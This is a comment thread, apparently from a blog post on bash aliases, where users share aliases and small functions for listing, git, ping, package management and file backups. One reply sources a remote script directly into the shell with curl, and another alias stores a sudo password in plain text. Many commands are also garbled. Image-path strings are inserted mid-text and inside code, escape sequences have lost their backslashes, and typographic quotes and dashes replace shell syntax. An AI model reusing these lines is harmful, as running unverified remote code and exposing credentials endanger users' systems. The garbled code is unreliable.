  • nyuszika7h Feb 7, 2013 @ 16:43

    You should check $EUID, not $UID, because if the effective user ID isn’t 0, you aren’t root, but if the real/saved user UID is 0, you can seteuid(0) to become root.• nyuszika7h Feb 7, 2013 @ 16:47

    Reply to Tom (#42):

    (1) Using `hg’ for `history –grep’ is probably not a good idea if you’re ever going to work with Mercurial SCM.

    (2) Using sudo for `yum search’ is entirely pointless, you don’t need to be root to search the package cache.

  • Karthik Feb 14, 2013 @ 10:12
    alias up1="cd .."
    # edit multiple files split horizontally or vertically
    alias   e="vim -o "
    alias   E="vim -O "
    # directory-size-date (remove the echo/blank line if you desire)
    alias dsd="echo;ls -Fla"
    alias   dsdm="ls -FlAh | more"
    # show directories only
    alias   dsdd="ls -FlA | grep :*/"
    # show executables only
    alias   dsdx="ls -FlA | grep *"
    # show non-executables
    alias   dsdnx="ls -FlA | grep -v *"
    # order by date
    alias   dsdt="ls -FlAtr "
    # dsd plus sum of file sizes
    alias   dsdz="ls -Fla $1 $2 $3 $4 $5  | awk '{ print; x=x+$5 } END { print "total bytes = ",x }'"
    # only file without an extension
    alias noext='dsd | egrep -v ".|/"'
    # send pwd to titlebar in puttytel
    alias   ttb='echo -ne "33]0;`pwd`07"'# send parameter to titlebar if given, else remove certain paths from pwd
    alias   ttbx="titlebar"
    # titlebar
    if [ $# -lt 1 ]
        ttb=`pwd | sed -e 's+/projects/++' -e 's+/project01/++' -e 's+/project02/++' -e 's+/export/home/++' -e 's+/home/++'`
    echo -ne "33]0;`echo $ttb`07"
    alias machine="echo you are logged in to ... `uname -a | cut -f2 -d' '`"
    alias info='clear;machine;pwd'
    • Benito Nov 3, 2014 @ 5:05

      I will add:

      # file tree of directories only
      alias dirtree="ls -R | grep :*/ | grep ":$" | sed -e 's/:$//' -e 's/[^-][^/]*//--/g' -e 's/^/   /' -e 's/-/|/'"
  • John Ko Feb 15, 2013 @ 22:57

    I’m surprised no one has mentioned:
    alias ls=’ls -F’
    It will show * after executables, / after directories and @ after links.• zork Mar 25, 2013 @ 18:03

      John (Ko),

      The variations of dsd that I gave all include -F

      Give them a try.

  • John Ko Feb 15, 2013 @ 23:01

    And for you vi(m) lovers out there, in my .bashrc:
    set -o vi

    esc j,k for searching history using vi semantics. edit line using w, dw, b, F or whatever other as if in vi. Occasionally need to watch that if in command mode, need to press i first so you can actually go back to inserting as opposed to not seeing anything as you attempt to type.
    set -o emacs
    to get back out of this mode if you want to restore it whatothers have used.

  • Erin Feb 16, 2013 @ 7:44

    Here are some tidbits I’ve setup to help troubleshoot things quickly

    This one pings a router quickly

    alias pr=”ping `netstat -nr| grep -m 1 -iE ‘default|’ | awk ‘{print $2}’`”

    This export puts the current subnet as a variable (assuming class C) for easy pinging or nmapingexport SN=`netstat -nr| grep -m 1 -iE ‘default|’ | awk ‘{print $2}’ | sed ‘s/.[0-9]*$//’ `
    ping $SN.254
    nmap -p 80 $SN.*

    This command which I just named ‘p’ will call ping and auto populate your current subnet. You’d call it like this to ping the router p 1

    [ “$#” -eq 1 ] || exit “1 argument required, $# provided”
    echo $1 | grep -E -q ‘^[0-9]+$’ || exit “Numeric argument required, $1 provided”
    export HOST=$1
    export SUBNET=`netstat -nr| grep -m 1 -iE ‘default|’ | awk ‘{print $2}’`
    export IP=`echo $SUBNET | sed s/.[0-9]*$/.$HOST/`
    ping $IP

    Quickly reload your .bashrc or .bash_profile

    alias rl=’. ~/.bash_profile’

  • Flack Feb 22, 2013 @ 20:44Clear xterm buffer cache

    alias clearx="echo -e '/0033/0143'"

    Contrary to the clear command that only cleans the visible terminal area. AFAIK It’snot an universal solution but it worths a try.

    Edited by Admin as requested by OP.

    • Eduard Seifert Feb 23, 2013 @ 18:44

      alias clear=’printf “33c”‘

    • Eduard Seifert Feb 23, 2013 @ 18:44
      alias clear='printf "33c"'
  • DarrinMeek Feb 26, 2013 @ 3:11

    I have been using this concept for many years and still trying to perfect the methodology. My goals include minimal keystrokes and ease of use. I use double quotes in my alias defn even though single quote delimiters are the normal convention. I use ‘aa’ for “add alias.” It is always the first alias I create. Each job and each environ begin with ‘aa’ alias creation. My aliases have evolved into productized command line interfaces and have been adopted by many others over the years.http://www.iboa.us/iboaview.html

  • muratkarakus Mar 1, 2013 @ 17:02

    Nowadays, git is so popular, we can not miss it
    These are my git aliases

    alias g=”git”
    alias gr=”git rm -rf”
    alias gs=”git status”
    alias ga=”g add”
    alias gc=”git commit -m”
    alias gp=”git push origin master”
    alias gl=”git pull origin master”

  • muratkarakus Mar 1, 2013 @ 18:16

    alias sd=”echo michoser | sudo -S”

    alias ai=”sd apt-get –yes install”
    alias as=”apt-cache search”
    alias ar=”sd apt-get –yes remove”

    alias .p=”pushd .”
    alias p.=”popd”• Tolli Mar 2, 2013 @ 20:35

    Regarding the cd aliases (#2), you can use the autocd bash option (run ‘shopt -s autocd’) to change directories without using cd. Then, you can just type ‘..’ to go up one directory, or ‘../..’ to go up 2 directories, or type the (relative) path of any directory to go to it. Another trick is to set the CDPATH environment variable. This will let you easily change to directories in a commonly used sub-directories such as your home directory. For example, if you set the CDPATH to ‘.:$HOME’ (run ‘export CDPATH=.:$HOME’), then run ‘cd Documents’ you will change directories to the Documents/ directory in your home directory, no matter what directory you are currently in (unless yourcurrent directory also has a documents/ directory in it).

  • Chris F.A. Johnson Mar 11, 2013 @ 18:14

    I don’t use aliases. As the bash man page says:

    “For almost every purpose, aliases are superseded by shell functions.”

    At the top of my .bashrc I have ‘unalias -a’ to get rid of any misguided aliases installed by /etc/profile.

    • Benny Oct 22, 2013 @ 20:02

      Interesting comment, Chris. I decided it would be an interesting experiment to try to take some of these alias ideas and convert them to functions. When I tried on the one called “fastping” I couldn’t seem to make it work. Ideas?

    • Henrik Kjelsberg Mar 6, 2014 @ 8:06

      Aliases are handy and quicker to set up than functions. I guess you could argue that if your fluent with `history` you don’t necessarily need aliases and aliases will not be available if your working on someone else’s box, but I think a combination makes perfect sense, their quick

      • TD Aug 7, 2014 @ 8:00

        Who says you can’t use your own aliases when working on a box?

        . <(curl -sS domain.tld/scripts/.bashrc)

        • r0tty Oct 3, 2014 @ 8:28

          This is completely brilliant – I am implementing it now.

          Also, I completelyagree with whoever said aliasing rm is a very bad idea. I don’t think it’s a good idea to use any alias that can get you into trouble if the alias is not defined.

          Finally, I think it’s a very good idea not to define any alias that will hinder your recall of the command should you be in a situation where you don’t have access to the alias. A job interview being the most important scenario. You can only smugly answer questions with ‘no, I don’t know the options to that command, because I define an alias so I don’t have to remember’ so many times before they conclude you don’t know what you’re talking about.


  • griswolf Mar 11, 2013 @ 19:24

    The aliases that I use the most (also a lot of shell functions):
    alias j=’jobs -l’
    alias h=’history’
    alias la=’ls -aF’
    alias lsrt=’ls -lrtF’
    alias lla=’ls -alF’
    alias ll=’ls -lF’
    alias ls=’ls -F’
    alias pu=pushd
    alias pd=popd
    alias r=’fc -e -‘ # typing ‘r’ ‘r’epeats the last command

  • Gary Mar 27, 2013 @ 9:15

    Sizes of the directories in the current directory
    alias size=’du -h –max-depth=1′

  • RajaSekhar Apr 2, 2013 @ 2:56

    Useful alias. Thanks mates.

    I find the following useful too

    alias tf='tail -f '
    # grep in *.cpp filesalias findcg='find . -iname "*.cpp" | xargs grep -ni --color=always '
    # grep in *.cpp files
    alias findhg='find . -iname "*.h" | xargs grep -ni --color=always '
    #finds that help mecleanup when hit the limits
    alias bigfiles="find . -type f 2>/dev/null | xargs du -a 2>/dev/null | awk '{ if ( $1 > 5000) print $0 }'"
    alias verybigfiles="find . -type f 2>/dev/null | xargs du -a 2>/dev/null | awk '{ if ( $1 > 500000) print $0 }'"
    #show only my procs
    alias psme='ps -ef | grep $USER --color=always '
  • Carsten Apr 5, 2013 @ 13:06

    Very nice alias list.
    Here’s another very handy alias:

    alias psg='ps -ef | grep'

    ex: looking for all samb processes:

    psg mbd
    • Justin Garrison Oct 22, 2014 @ 15:13

      Try this one instead. It will remove the search from your results

      psg='ps aux | grep -v grep | grep -i -e VSZ -e'
  • phillip Apr 6, 2013 @ 6:23

    Here is the most important alias:

    alias exiy=’exit’

  • Thilo Six Apr 8, 2013 @ 14:20

    I did learn some new things. Thanks for that.

    # Do not wait interval 1 second, go fast #
    alias fastping=’ping -c 100 -s.2′

    From reading the man page i gather the ‘-s’ should be ‘-i’ instead.

    -s packetsize
    Specifies the number of data bytes to be sent.-i interval
    Wait interval seconds between sending each packet. The
    default is to wait for one second between each packet
    normally, or not to wait in flood mode. Only super-user
    may set interval to values less 0.2 seconds.

  • Thomas Apr 9, 2013 @ 15:44

    Back Up [function, not alias] – Copy a file to the current directory with today’s date automatically appended to the end.

    bu() { cp $@ $@.backup-`date +%y%m%d`; }

    Add to .bashrc or .profile and type: “bu filename.txt”

    I made this a long time ago and use it daily. If you really want to stay on top of your backed up files, you can keep a log by adding something like:

    bu() { cp $@ $@.backup-`date +%y%m%d`; echo "`date +%Y-%m-%d` backed up $PWD/$@" >> ~/.backups.log; }

    I hope someone finds this helpful!

    • ahmed Apr 21, 2013 @ 1:03

      i did!
      thanks a lot

    • Benny Oct 22, 2013 @ 19:41

      Excellent idea, Thomas!

      • Ingo Nov 22, 2013 @ 19:51

        Great idea! Will add this one to my aliases!

